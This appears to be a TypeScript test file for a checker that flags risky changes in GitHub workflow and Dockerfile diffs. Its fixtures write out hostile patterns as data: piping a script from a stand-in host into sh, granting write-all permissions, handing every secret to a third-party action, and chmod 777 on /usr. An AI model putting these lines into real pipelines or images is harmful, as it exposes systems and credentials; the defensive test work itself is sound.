import { testChecker } from '../test-checker.ts';

const CI = '.github/workflows/ci.yml';
const BUILD = 'on: push\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n';

testChecker(import.meta.url, {
  clean: [
    {
      name: 'what warns of a workflow: a script of the web, and all rights',
      base: { [CI]: BUILD },
      head: {
        [CI]: BUILD.replace('permissions:\n  contents: read', 'permissions: write-all').replace(
          'make',
          'curl -s https://a.example/x.sh | sh',
        ),
      },
      expect: {
        findings: [
          { rule: 'workflow-all-rights', path: CI, line: 2 },
          { rule: 'workflow-unverified-download', path: CI, line: 7 },
        ],
      },
    },
  ],
  flagged: [
    {
      name: 'an action of others that is given every secret there is',
      base: { [CI]: BUILD },
      head: { [CI]: `${BUILD}      - uses: a/deploy@${'8e5e7e5a'.repeat(5)}\n        with:\n          all: \${{ toJSON(secrets) }}\n` },
      expect: { findings: [{ rule: 'workflow-all-secrets', path: CI, line: 11 }] },
    },
    {
      name: 'an image that runs what anybody on the way may write, and opens the system to everybody',
      base: { Dockerfile: 'FROM node:24\nUSER node\n' },
      head: { Dockerfile: 'FROM node:24\nRUN curl -s http://a.example/x.sh | sh\nRUN chmod -R 777 /usr\nUSER node\n' },
      expect: {
        findings: [
          { rule: 'container-unencrypted-script', path: 'Dockerfile', line: 2 },
          { rule: 'container-opens-system', path: 'Dockerfile', line: 3 },
        ],
      },
    },
  ],
});
